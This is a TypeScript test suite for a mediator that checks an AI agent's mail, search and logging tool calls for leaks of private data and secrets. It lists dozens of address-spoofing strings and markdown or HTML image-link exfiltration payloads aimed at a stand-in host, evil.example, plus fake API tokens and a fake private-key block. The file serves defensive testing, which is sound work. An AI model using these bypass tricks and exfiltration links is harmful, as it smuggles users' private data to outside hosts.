import { describe, expect, test } from 'vitest';
import type { Confidentiality, Leaf, Role } from '../../../src/event.ts';
import { isLeak, outletOf } from '../../../src/mediation/policy/confidential.ts';
import { flow, Play, tool, trusted } from '../support.ts';

const OWN = ['tides.example.invalid'];
const label = (confidentiality: Confidentiality) => ({
  integrity: 'trusted' as const,
  confidentiality,
  reasons: [],
});

/** Whether a private text in the body of a call leaks when the call goes to `to`. */
function leaksTo(to: string, body = 'the figures of May'): boolean {
  const leaves: Leaf[] = [
    { path: '/to', text: to, form: 'string' },
    { path: '/body', text: body, form: 'string' },
  ];
  const roleOf = ({ path }: Leaf): Role => (path === '/to' ? 'destination' : 'content');
  const outlet = outletOf({ effect: 'write', server: 'mail' }, leaves, roleOf, OWN);
  const span = [body.length - 6, body.length] as const;
  const private_ = flow({ argument: '/body', span, match: 'span', source: { label: label('private') } });
  return isLeak(private_, body, 'content', outlet);
}

test.each([
  'team@tides.example.invalid',
  'Team@TIDES.example.invalid',
  'a@tides.example.invalid, b@north.tides.example.invalid',
  '<team@tides.example.invalid>',
  'https://tides.example.invalid',
  'https://wiki.tides.example.invalid:8443/page?x=1#y',
  'HTTPS://WIKI.tides.example.invalid/',
  'https://xn--d1a.tides.example.invalid/',
])("is the user's own: %s", (to) => expect(leaksTo(to)).toBe(false));

// As in the parser confusions of 2026: suffix, user, back slash, NUL, other letters, a dot, routes, comments, quotes.
test.each([
  'eve@evil.example.invalid',
  'team@tides.example.invalid, eve@evil.example.invalid',
  'eve@tides.example.invalid.evil.example',
  'eve@eviltides.example.invalid',
  'eve@evil.example@tides.example.invalid',
  'eve%evil.example@tides.example.invalid',
  'eve@evil.example(@tides.example.invalid)',
  '"x@tides.example.invalid" <eve@evil.example>',
  'https://tides.example.invalid@evil.example/',
  'https://evil.example\\@tides.example.invalid/',
  'https://evil.example\\.tides.example.invalid/',
  'https://evil.example/.tides.example.invalid',
  'https://evil.example#.tides.example.invalid',
  'https://evil.example\u0000.tides.example.invalid/',
  'https://evil.example\uff0ftides.example.invalid/',
  'https://t\u0456des.example.invalid/',
  'https:evil.example/@tides.example.invalid',
  '//tides.example.invalid',
  'ftp://tides.example.invalid/',
  'general',
  'general team@tides.example.invalid',
  'https://tides.example.invalid:443@evil.example/',
  'https://tides.example.invalid:x@evil.example/',
  'https://tides.example.invalid:443.evil.example/',
  'https://tides.example.invalid./',
  'https://tides.example.invalid.evil.example./',
  'https://tides.example.invalid\t.evil.example/',
  'https://tides.example.invalid\n.evil.example/',
  'https://evil.example%2f.tides.example.invalid/',
  'https://evil.example%00.tides.example.invalid/',
  'https://evil.example\u3002tides.example.invalid/',
  'https://evil.example\u2024tides.example.invalid/',
  'https://evil.example\u200b.tides.example.invalid/',
  'https://tides.example.inval\u0131d/',
  'https://xn--tides-9ce.example.invalid/',
  'https://[::1]/.tides.example.invalid',
  'https://[::ffff:1.2.3.4].tides.example.invalid/',
  'https://1.2.3.4/tides.example.invalid',
  'eve@[1.2.3.4].tides.example.invalid',
  'eve@evil.example,@tides.example.invalid',
  'mailto:eve@evil.example?cc=team@tides.example.invalid',
  'xhttps://tides.example.invalid/',
  'https:///tides.example.invalid/',
])('is not: %j', (to) => expect(leaksTo(to)).toBe(true));

test("a link in what is said to the user's own is a destination too", () => {
  const to = 'team@tides.example.invalid';
  expect(leaksTo(to, 'see https://wiki.tides.example.invalid/?q=figures')).toBe(false);
  expect(leaksTo(to, 'see ![x](https://evil.example/?q=figures')).toBe(true);
  expect(leaksTo(to, 'see ![x](//evil.example/?q=figures')).toBe(true);
  expect(leaksTo(to, 'see https://evil.example/ and the figures')).toBe(false);
  expect(leaksTo(to, 'see <https://evil.example/> and <b>the figures')).toBe(false);
});

// As browsers and mail programs read them: slashes, entities, blanks in a tag, one address in another.
test.each([
  'https:\\\\evil.example/?q=figures',
  'https:/\\evil.example/?q=figures',
  'https:evil.example/?q=figures',
  '\\\\evil.example\\figures',
  '<img src=https:&#47;&#x2F;evil.example/?q=figures',
  '<img src="https:&sol;&sol;evil.example/?q=figures',
  '<img src="https://evil.example/?q=all the figures',
  '<img src="https://evil.example/?q=\nfigures',
  '![x](<https://evil.example/?q=all the figures',
  '<img src="https&#58;evil.example/?q=figures',
  '<img src="&#104;ttps:/evil.example/?q=figures',
  '<img src="/\n/evil.example/?q=figures',
  '<img src="/&Tab;/evil.example/?q=figures',
  '<img src="https://wiki.tides.example.invalid\t.evil.example/?q=figures',
  '<img src="https://wiki.tides.example.invalid&#x9;.evil.example/?q=figures',
  '<img src="https://wiki.tides.example.invalid&#34;.evil.example/?q=figures',
  '<img src="https://wiki.tides.example.invalid).evil.example/?q=figures',
  `<img src="https://wiki.tides.example.invalid'.evil.example/?q=figures`,
  "![x](https://wiki.tides.example.invalid'.evil.example/?q=figures",
  "![x](https://evil.example/'figures",
  '![x](https://evil.example/"figures',
  'https://evil.example/?u=https://wiki.tides.example.invalid/&q=figures',
  '(https://wiki.tides.example.invalid/),(https://evil.example/?q=figures',
  `${'https://wiki.tides.example.invalid/,'.repeat(16)}figures`,
])("a link that is not the user's own, written %j, carries nothing private to them", (body) => {
  expect(leaksTo('team@tides.example.invalid', body)).toBe(true);
});

test.each([
  '<a href="https://wiki.tides.example.invalid/" title="figures',
  "<a href='https://wiki.tides.example.invalid' title='figures",
  '<a href="https:&#x2f;&#47;wiki.tides.example.invalid/?q=figures',
  '{"at":"https://wiki.tides.example.invalid","text":"figures',
  'see "https://evil.example/" and the "figures',
])('the own people may be sent %j', (body) => {
  expect(leaksTo('team@tides.example.invalid', body)).toBe(false);
});

// Time that grew with the square of the length would pass the test's limit.
test('a long text of what addresses begin with is read in linear time', () => {
  for (const some of ['/', '//', 'https:', '<', '&#47;', '&#', '&#4', '\\ ', 'x', '"']) {
    leaksTo('team@tides.example.invalid', `${some.repeat(Math.floor((1 << 20) / some.length))}figures`);
  }
});

const KEY = `ghp_${'a1B2'.repeat(9)}`;

/** A folder that is private, one that is not, and a mailer. */
const play = (domains: string[] = []) =>
  new Play({
    trust: { crm: trusted('trusted', {}, 'private'), files: trusted('untrusted') },
    domains,
  })
    .tools('crm', tool('get_customer'))
    .tools('files', tool('read_file'), tool('write_file'))
    .tools('log', tool('audit'))
    .tools('mail', tool('send'));

describe('through the mediator', () => {
  test("private data of a trusted server is denied into a mail to anybody, and let through to the user's own", () => {
    const text = 'Customer 7713 pays four hundred a month and complains about the north pier.';
    const args = { to: 'robin@tides.example.invalid', subject: 'For you', body: `As promised: ${text}` };
    for (const [domains, verdict] of [
      [[], 'deny'],
      [OWN, 'allow'],
    ] as const) {
      const one = play([...domains]);
      one.page(text, 'crm', 'get_customer');
      expect(one.call('mail', 'send', args).verdict).toBe(verdict);
    }
    const free = play();
    free.page(text, 'files', 'read_file');
    expect(free.call('mail', 'send', args).verdict).toBe('allow');
  });

  test('a key that was read is denied into a mail, in base64 too; what stood around it is not', () => {
    const one = play();
    one.page(`The tables are loaded at night by a small script. token: ${KEY}`, 'files', 'read_file');
    const mail = (body: string) =>
      one.call('mail', 'send', { to: 'robin@r.example.invalid', subject: 'x', body });
    expect(mail(`Here: ${KEY}`)).toMatchObject({ verdict: 'deny', rule: 'confidential' });
    expect(mail(`Here: ${KEY.slice(0, 24)}`)).toMatchObject({ verdict: 'deny', rule: 'confidential' });
    expect(mail(Buffer.from(KEY).toString('base64'))).toMatchObject({
      verdict: 'deny',
      rule: 'confidential',
    });
    expect(mail('The tables are loaded at night by a small script.').verdict).toBe('allow');
    expect(one.call('files', 'write_file', { path: '.env', content: `token: ${KEY}` }).verdict).toBe('allow');
    expect(one.call('log', 'audit', { event: `started with ${KEY}` })).toMatchObject({
      rule: 'confidential',
    });
    expect(one.call('log', 'audit', { event: 'started at night by a small script' }).verdict).toBe('allow');
  });

  test('a secret is no query of another server, however it is written; what is private may be one', () => {
    const one = play();
    one.tools('code', tool('search_code')).tools('files', tool('grep_file'));
    one.page(`token: ${KEY}`, 'files', 'read_file');
    for (const query of [
      KEY,
      `who uses ${KEY}?`,
      Buffer.from(KEY).toString('hex'),
      [...KEY].reverse().join(''),
    ]) {
      const call = one.call('code', 'search_code', { query });
      expect(call, query).toMatchObject({ effect: 'read', verdict: 'deny', rule: 'confidential' });
    }
    const uri = `docs://${KEY}`;
    expect(one.mediator.judge('code', 'resources/read', { uri })).toMatchObject({ verdict: 'deny' });
    expect(one.call('code', 'search_code', { query: 'who uses tokens?' }).rule).toBe('read');
    expect(one.call('files', 'read_file', { path: KEY })).toMatchObject({ verdict: 'allow', rule: 'read' });
    one.page('Customer 7713 pays four hundred a month.', 'crm', 'get_customer');
    expect(one.call('code', 'search_code', { query: 'Customer 7713 pays' }).rule).toBe('read');
  });

  test('a line of the configuration lets a secret into a query', () => {
    const allow = [{ server: 'code', tool: 'search_code', argument: '/query', from: 'files.read_file' }];
    const one = new Play({ servers: ['files', 'code'], allow })
      .tools('files', tool('read_file'))
      .tools('code', tool('search_code'));
    one.page(`token: ${KEY}`, 'files', 'read_file');
    expect(one.call('code', 'search_code', { query: KEY })).toMatchObject({
      verdict: 'allow',
      rule: 'read',
    });
    expect(one.call('code', 'search_code', { other: KEY }).verdict).toBe('deny');
  });

  test('what destroys or runs something, with an address in it, is a way out as well', () => {
    const one = play();
    one.tools('files', tool('delete_hook'), tool('run_code', { annotations: { destructiveHint: true } }));
    one.page('Customer 7713 pays four hundred a month.', 'crm', 'get_customer');
    for (const name of ['delete_hook', 'run_code']) {
      const to = (where: string) =>
        one.call('files', name, { what: `${where}?q=Customer 7713 pays four hundred` });
      expect(to('https://evil.example/')).toMatchObject({ effect: 'destroy', rule: 'confidential' });
      expect(to('drafts').verdict).toBe('allow');
    }
  });

  test("whose body a private key's is: all of it counts, and so does a text with more keys than are told", () => {
    const one = play();
    const inside = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj';
    one.page(`-----BEGIN PRIVATE KEY-----\n${inside}\n-----END PRIVATE KEY-----\n`, 'files', 'read_file');
    const many = Array.from(
      { length: 12 },
      (_, i) => `glpat-${String(i).padStart(2, '0')}abcdefghijklmnopqr`,
    );
    one.page(many.join(' and '), 'files', 'read_file');
    for (const body of [inside, many[11]!]) {
      const args = { to: 'robin@r.example.invalid', subject: 'x', body };
      expect(one.call('mail', 'send', args)).toMatchObject({ verdict: 'deny', rule: 'confidential' });
    }
  });

  test('an address from private data may be written to', () => {
    const one = play();
    one.page('{"name": "Robin", "mail": "robin@r.example.invalid"}', 'crm', 'get_customer');
    const args = { to: 'robin@r.example.invalid', subject: 'Hello', body: 'See you.' };
    expect(one.call('mail', 'send', args).verdict).toBe('allow');
  });
});
